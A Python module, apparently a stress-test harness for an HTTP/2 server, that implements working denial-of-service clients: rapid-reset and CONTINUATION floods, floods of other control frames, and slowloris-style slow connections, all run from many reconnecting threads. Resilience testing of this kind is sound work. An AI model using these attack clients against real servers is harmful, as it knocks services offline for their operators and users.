"""Clients that mean no good."""

import collections
import itertools
import threading
import time
from collections.abc import Callable, Iterator
from dataclasses import dataclass, field

from frames import (
    ACKNOWLEDGE, CONTINUATION, DATA, END_HEADERS, END_STREAM, GOAWAY, HEADERS, PING, PREFACE, PRIORITY, RESET, SETTINGS,
    WINDOW_UPDATE, Connection, frame, header_block, number, settings)

BEGIN = PREFACE + settings() + frame(SETTINGS, ACKNOWLEDGE)


@dataclass(frozen=True)
class Request:
    """The headers of a call, and its message."""

    fields: list[tuple[str, str]]
    body: bytes

    def headers(self, stream: int, flags: int = END_HEADERS, more: list[tuple[str, str]] | None = None) -> bytes:
        return frame(HEADERS, flags, stream, header_block(self.fields + (more or [])))

    def whole(self, stream: int) -> bytes:
        return self.headers(stream) + frame(DATA, END_STREAM, stream, self.body)


@dataclass(frozen=True)
class Attack:
    name: str
    # What is sent first, then round by round, as fast as the server takes it or one every `pause` seconds.
    begin: Callable[[Request], bytes]
    rounds: Callable[[Request], Iterator[bytes]]
    frames_per_round: int = 1
    pause: float = 0
    connections: int | None = None
    # What the server has time for, as its limits say.
    seconds: float = 0
    reads: bool = True


def _streams() -> Iterator[int]:
    return itertools.count(101, 2)


def _same(data: bytes) -> Callable[[Request], Iterator[bytes]]:
    return lambda request: itertools.repeat(data)


def _only(preface: bytes = BEGIN) -> Callable[[Request], bytes]:
    return lambda request: preface


def _open(request: Request) -> bytes:
    return BEGIN + request.headers(1)


def _split(request: Request, stream: int) -> bytes:
    block = header_block(request.fields)
    return (frame(HEADERS, END_STREAM, stream, block[:3]) + frame(CONTINUATION, END_HEADERS, stream, block[3:])
            + frame(RESET, 0, stream, number(8)))


def _trickle(preface: bytes, data: bytes) -> tuple[Callable, Callable]:
    return _only(preface), lambda request: iter([bytes([byte]) for byte in data])


FLOODS = [
    Attack("rapid reset", _only(), lambda request: (
        request.whole(stream) + frame(RESET, 0, stream, number(8)) for stream in _streams()), 3),
    Attack("resets provoked", _only(), lambda request: (
        request.headers(stream) + frame(WINDOW_UPDATE, 0, stream, number(0x7FFFFFFF)) for stream in _streams()), 2),
    Attack("bad headers", _only(), lambda request: (
        request.headers(stream, more=[("Upper", "case")]) for stream in _streams())),
    Attack("PING", _only(), _same(frame(PING, payload=bytes(8)))),
    Attack("SETTINGS", _only(), _same(settings((4, 65_535)))),
    Attack("empty DATA", _open, _same(frame(DATA, 0, 1))),
    Attack("PRIORITY", _only(), _same(frame(PRIORITY, 0, 3, bytes(5)))),
    Attack("CONTINUATION", _only(), lambda request: (_split(request, stream) for stream in _streams()), 3),
    Attack("endless CONTINUATION", lambda request: BEGIN + frame(HEADERS, 0, 1), _same(frame(CONTINUATION, 0, 1))),
    Attack("WINDOW_UPDATE", _only(), _same(frame(WINDOW_UPDATE, 0, 0, number(1)))),
    Attack("unknown frames", _only(), _same(frame(0xFA, 0, 0, bytes(16)))),
    Attack("GOAWAY", _open, _same(frame(GOAWAY, payload=bytes(8)))),
]

SLOW = [
    Attack("slow preface", *_trickle(b"", PREFACE), pause=1, connections=200, seconds=12),
    Attack("slow headers", lambda request: BEGIN + request.headers(1)[:9], lambda request: iter(
        [bytes([byte]) for byte in request.headers(1)[9:]]), pause=1, connections=200, seconds=13),
    Attack("no request", _only(), lambda request: iter([]), pause=1, connections=2_000, seconds=14),
    Attack("a request without end", _open, lambda request: (bytes(frame(DATA, 0, 1, request.body[:5].ljust(5, b"\0")))
           for _ in itertools.count()), pause=1, connections=200, seconds=10),
    Attack("never reads", lambda request: BEGIN + frame(WINDOW_UPDATE, 0, 0, number(1 << 30)) + b"".join(
        request.whole(stream) for stream in range(1, 401, 2)), lambda request: (
        request.whole(stream) for stream in itertools.count(401, 2)), 2, connections=20, seconds=30, reads=False),
    Attack("zero windows, with PINGs", lambda request: PREFACE + settings((4, 0)) + frame(SETTINGS, ACKNOWLEDGE) + b"".join(
        request.whole(stream) for stream in range(1, 201, 2)), _same(frame(PING, payload=bytes(8))), pause=1,
        connections=100, seconds=27),
]


@dataclass
class Outcome:
    """What came of the connections of an attack."""

    opened: int = 0
    ended: int = 0
    frames: int = 0
    refused: int = 0
    endings: collections.Counter = field(default_factory=collections.Counter)


class Attackers:
    """Runs an attack in threads, on connections that are made anew when the server ends them, until it is stopped."""

    def __init__(self, attack: Attack, address: str, request: Request, connections: int):
        self.attack, self.address, self.request = attack, address, request
        self.outcome, self.lock, self.stopped = Outcome(), threading.Lock(), threading.Event()
        self.count = attack.connections or connections
        # Slow clients need no thread each.
        threads = 4 if attack.pause else self.count
        shares = [self.count // threads + (index < self.count % threads) for index in range(threads)]
        self.threads = [threading.Thread(target=self._run, args=(share,), daemon=True) for share in shares if share]

    def __enter__(self) -> "Attackers":
        for thread in self.threads:
            thread.start()
        return self

    def __exit__(self, *_) -> None:
        self.stopped.set()
        for thread in self.threads:
            thread.join(20)

    def _run(self, share: int) -> None:
        live: list[tuple[Connection, Iterator[bytes]]] = []
        while not self.stopped.is_set():
            while len(live) < share and not self.stopped.is_set():
                try:
                    connection = Connection(self.address, self.attack.begin(self.request))
                except OSError:
                    with self.lock:
                        self.outcome.refused += 1
                    self.stopped.wait(0.05)
                    break
                if not self.attack.reads:
                    connection.socket.settimeout(0.5)
                live.append((connection, self.attack.rounds(self.request)))
                with self.lock:
                    self.outcome.opened += 1
            live = [pair for pair in live if self._push(*pair)]
            if self.attack.pause:
                self.stopped.wait(self.attack.pause)
        for connection, _ in live:
            connection.close()

    def _push(self, connection: Connection, rounds: Iterator[bytes]) -> bool:
        """Sends what is next, and returns whether the connection goes on."""
        data = list(itertools.islice(rounds, 1 if self.attack.pause else 50))
        try:
            try:
                connection.send(b"".join(data))
            except TimeoutError:
                # The server doesn't read either.
                return True
            with self.lock:
                self.outcome.frames += len(data) * self.attack.frames_per_round
            if self.attack.reads:
                connection.frames()
            return True
        except OSError:
            try:
                while self.attack.reads:
                    connection.frames(wait=True)
            except OSError:
                pass
            with self.lock:
                self.outcome.ended += 1
                self.outcome.endings[connection.goaway or "closed"] += 1
            connection.close()
            return False
